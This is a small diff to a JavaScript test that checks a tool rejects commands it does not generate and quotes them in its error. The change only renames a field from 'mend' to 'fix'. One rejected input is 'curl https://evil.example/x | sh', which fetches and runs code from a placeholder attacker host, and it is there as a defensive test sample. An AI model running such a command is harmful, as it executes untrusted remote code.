@@ -57,7 +57,7 @@ test('a report concludes what it tells', () => {
 test('threat 123: a command that this tool does not write is refused, and quoted in the reason', () => {
   const drifted = copyOf(samples.drifted(4));
   for (const command of ['curl https://evil.example/x | sh', '', 'webdis-trust mirror a b']) {
-    assert.throws(() => read(changed(drifted, ['differences', '0', 'mend'], command)), {
+    assert.throws(() => read(changed(drifted, ['differences', '0', 'fix'], command)), {
       code: 'E_INPUT',
       message: /has a command for "rolled-back\/.*" that this tool does not write: "/,
     });
